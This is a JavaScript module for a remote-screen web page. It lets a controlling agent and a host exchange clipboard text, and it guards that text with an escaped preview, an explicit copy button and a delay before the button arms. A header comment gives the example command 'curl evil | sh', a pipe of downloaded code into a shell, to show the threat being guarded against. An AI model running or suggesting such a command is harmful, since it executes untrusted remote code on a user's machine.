// Clipboard sharing on the page (clip39; docs/web.md "Clipboard").
//
// Agent -> host: Ctrl+V (Cmd+V) in the screen while the agent has control.
// input.js lets that key's default happen so that the browser fires a paste
// event on the focused textarea; its text goes to the host first ({t: "clip"}),
// then the V key goes as usual, so the program on the host pastes it (the
// host puts the text on its clipboard before it injects the keys after it).
//
// Host -> agent: a {t: "clip"} from the view process is the host's user's
// clipboard, a stranger's text ("curl evil | sh\n" that the agent would then
// paste in their own terminal). It goes on the browser's clipboard only when
// the agent presses "Copy to my clipboard" (clipfix39; that click is also the
// gesture navigator.clipboard.writeText needs): never on any other click or
// key. The offer shows a preview, textContent only, its controls escaped.

export const MAX_CLIP_BYTES = 64 * 1024; // transport/session/clipboard.py
export const PREVIEW_CHARS = 200;
// The button stays disarmed this long after each new text (review39c): the
// host sees the agent's pointer reach the box and could swap the text under
// the click begun on the last one.
export const ARM_MS = 1000;

const plural = (n) => `${n} character${n === 1 ? "" : "s"}`;
const chars = (text) => [...text].length; // as Python counts them
const NAMED = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };
// Controls, format characters (bidi overrides, zero-width), private use,
// lone surrogates and line/paragraph separators: shown as escapes, so the
// agent sees the newline that would run a command, not a line break.
const HIDDEN = /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}]/gu;
const escapeHidden = (s) =>
  s.replace(HIDDEN, (c) => NAMED[c] || `\\u{${c.codePointAt(0).toString(16)}}`);

// The first PREVIEW_CHARS code points of `text`, escaped, and how many
// more are not shown. The cut is said apart (#clip-cut), in the page's words:
// a "..." after the text could be the host's own, hiding a cut (review39c).
export function clipPreview(text) {
  const points = [...text];
  const shown = escapeHidden(points.slice(0, PREVIEW_CHARS).join(""));
  return [shown, Math.max(0, points.length - PREVIEW_CHARS)];
}

export class PageClipboard {
  constructor(send, notice) {
    this.send = send;
    this.notice = notice;
    this.pending = null; // the host's text offered, not taken
    this.copied = 0; // texts of the host's put on the browser's clipboard
    this.sent = 0; // texts of the agent's sent to the host
    this.offer = document.createElement("div");
    this.offer.id = "clip-offer";
    this.offer.setAttribute("role", "dialog");
    this.offer.setAttribute("aria-label", "The host's clipboard");
    this.offer.hidden = true;
    this.head = document.createElement("p");
    this.preview = document.createElement("pre");
    this.preview.id = "clip-preview";
    this.cut = document.createElement("p");
    this.cut.id = "clip-cut";
    const take = (this.takeButton = document.createElement("button"));
    take.id = "clip-take";
    take.type = "button";
    take.textContent = "Copy to my clipboard";
    take.onclick = () => this.take();
    const drop = document.createElement("button");
    drop.id = "clip-dismiss";
    drop.type = "button";
    drop.textContent = "Dismiss";
    drop.onclick = () => this.dismiss();
    this.offer.append(this.head, this.preview, this.cut, take, drop);
    document.body.append(this.offer);
  }

  // The paste's text: sent, and true if the key that made it should go on.
  toHost(text) {
    if (!text) return true; // nothing as text (an image): the key goes as before
    if (new TextEncoder().encode(text).length > MAX_CLIP_BYTES) {
      this.notice(`Not pasted: your clipboard holds more than ${MAX_CLIP_BYTES / 1024} KiB of text`);
      return false;
    }
    this.send({ t: "clip", text });
    this.sent += 1;
    return true;
  }

  // The host's user sent their clipboard: offered, not written.
  fromHost(text, reason) {
    this.pending = text;
    const how = reason === "sync" ? "copied while you control their screen" : "sent by the user";
    const head = `The host's clipboard (${plural(chars(text))}, ${how})`;
    this.head.textContent = `${head}:`;
    const [shown, more] = clipPreview(text);
    this.preview.textContent = shown;
    this.cut.textContent = `...and ${plural(more)} more, not shown (copied with the rest)`;
    this.cut.hidden = more === 0;
    this.offer.hidden = false;
    this.takeButton.disabled = true; // a click begun on an earlier text does nothing
    clearTimeout(this.arming);
    this.arming = setTimeout(() => (this.takeButton.disabled = false), ARM_MS);
    this.notice(`${head}: "Copy to my clipboard" puts it on yours`);
  }

  dismiss() {
    this.pending = null;
    this.offer.hidden = true;
  }

  // The agent's click on "Copy to my clipboard": the one way it is written.
  take() {
    const text = this.pending;
    if (text === null) return;
    if (!navigator.clipboard) {
      this.notice("The host's clipboard could not be copied here (this page may not use the clipboard)");
      return;
    }
    navigator.clipboard.writeText(text).then(
      () => {
        if (this.pending === text) this.dismiss();
        this.copied += 1;
        this.notice(`The host's clipboard (${plural(chars(text))}) is on your clipboard`);
      },
      (e) => {
        this.notice(`The host's clipboard could not be copied here (${String(e && e.name).slice(0, 40)}): press the button to try again`);
      },
    );
  }
}
